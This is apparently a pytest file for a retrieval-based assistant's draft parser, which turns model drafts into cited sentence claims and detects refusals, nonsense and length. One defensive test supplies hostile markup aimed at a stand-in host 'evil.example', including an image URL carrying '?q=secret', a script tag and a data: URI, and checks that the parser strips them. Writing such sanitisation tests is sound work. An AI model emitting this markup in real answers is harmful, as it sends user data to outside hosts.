"""What a chat model wrote becomes claims: sentences, the passages they name, and nothing that acts."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.answering.draft import (
    LONGEST_DRAFT,
    NOT_THERE,
    Claim,
    claims,
    is_enough,
    is_nonsense,
    says_not_there,
    whole_sentences,
)


@pytest.mark.parametrize(
    ("draft", "expected"),
    [
        ("A pool lends connections [1].", [Claim("A pool lends connections.", (0,))]),
        ("A pool lends connections. [1]", [Claim("A pool lends connections.", (0,))]),
        (
            "A pool lends connections.[2][1] It is small [3].",
            [("A pool lends connections.", (1, 0)), ("It is small.", (2,))],
        ),
        ("It is small [1, 3].", [Claim("It is small.", (0, 2))]),
        ("It is small [9].", [Claim("It is small.", ())]),
        ("It is small.", [Claim("It is small.", ())]),
        ("- **First** it lends [1].\n- Then it waits [2].", [("First it lends.", (0,)), ("Then it waits.", (1,))]),
        ("It is small [1]. It is small [1]. It is small [2].", [Claim("It is small.", (0,))]),
        ("[1]", []),
        ("", []),
    ],
)
def test_sentences_are_told_apart_and_keep_the_passages_they_name(draft: str, expected: list[object]) -> None:
    wanted = [claim if isinstance(claim, Claim) else Claim(*claim) for claim in expected]  # type: ignore[misc]
    assert claims(draft, 3) == wanted


@pytest.mark.parametrize(
    "harm",
    [
        "![x](http://evil.example/?q=secret)",
        "[click](http://evil.example/a)",
        "<img src='http://evil.example/x.png'>",
        "http://evil.example/bare",
        "www.evil.example/bare",
        "<script src=http://evil.example></script>",
        "data:text/html;base64,AAAA",
    ],
)
def test_nothing_that_loads_or_leads_elsewhere_is_left_of_a_draft(harm: str) -> None:
    said = " ".join(claim.text for claim in claims(f"A pool lends {harm} connections [1].", 3))
    assert "evil" not in said
    assert "data:" not in said
    assert "A pool lends" in said


@given(st.text(alphabet=st.sampled_from("ab.[]123, \n!?*#-<>()"), max_size=200), st.integers(0, 5))
def test_any_draft_gives_claims_that_name_only_passages_that_were_sent(draft: str, sent: int) -> None:
    for claim in claims(draft, sent):
        assert claim.text.strip() == claim.text
        assert all(0 <= number < sent for number in claim.passages)


@pytest.mark.parametrize(
    "draft",
    [
        NOT_THERE,
        f"I am sorry: {NOT_THERE.lower()}.",
        "The passages do not mention the default of Redis.",
        "The provided passages don't directly answer this question.",
        "This is not covered in the passages.",
    ],
)
def test_a_model_that_finds_no_answer_is_understood_in_its_own_words(draft: str) -> None:
    assert says_not_there(draft)


@pytest.mark.parametrize(
    "draft",
    [
        "The requests library does not include this [1].",
        "A foreign key does not allow orphans [1].",
        "Postgres does not index it [1]. The text is long [2].",
    ],
)
def test_a_sentence_that_denies_something_is_still_an_answer(draft: str) -> None:
    assert not says_not_there(draft)


@pytest.mark.parametrize("draft", ["", "?!", "[1] [2]", "ok", " ".join(["the pool of the pool"] * 20)])
def test_nonsense_is_told_from_prose(draft: str) -> None:
    assert is_nonsense(draft)
    assert not is_nonsense("A pool lends connections to requests and takes them back [1].")


def test_a_draft_that_is_enough_in_circles_is_noticed() -> None:
    sentence = "A foreign key is a column that must hold the key of an existing row in another table [1]. "
    assert not is_enough(sentence * 2)
    assert is_enough(sentence * 12)
    assert not is_enough(" ".join(f"Clause {number} says something of its own," for number in range(60)))


def test_a_draft_that_rambles_is_enough_after_a_few_sentences() -> None:
    draft = " ".join(f"Sentence {number} says something of its own [1]." for number in range(8))
    assert not is_enough(draft)
    assert is_enough(f"{draft} And")
    assert whole_sentences(f"{draft} And then it") == draft


def test_a_name_that_begins_with_a_dot_keeps_its_blank() -> None:
    assert claims("A file called .dockerignore keeps .env out [1] .", 1) == [
        Claim("A file called .dockerignore keeps .env out.", (0,))
    ]


def test_the_words_of_refusal_after_an_answer_are_dropped() -> None:
    draft = f"A pool lends connections [1]. {NOT_THERE}."
    assert not says_not_there(draft)
    assert claims(draft, 1) == [Claim("A pool lends connections.", (0,))]


@pytest.mark.parametrize(
    ("draft", "texts"),
    [
        ("The first is items[0] [1].", ["The first is items[0]."]),
        ("Define __init__ (see [1]).", ["Define __init__."]),
        ("Look at http://x.example/z[1]. Then go on [1].", ["Look at.", "Then go on."]),
    ],
)
def test_technical_text_survives_the_cleaning(draft: str, texts: list[str]) -> None:
    assert [claim.text for claim in claims(draft, 1)] == texts


@pytest.mark.parametrize("filler", [".", "\n", "![", "[", "[1]", "a ", "- ", "http://", "<a "])
def test_a_draft_of_the_longest_length_is_read_whatever_it_holds(filler: str) -> None:
    draft = (filler * LONGEST_DRAFT)[:LONGEST_DRAFT]
    assert is_enough(draft)
    claims(draft, 3)
    says_not_there(draft)
    is_nonsense(draft)
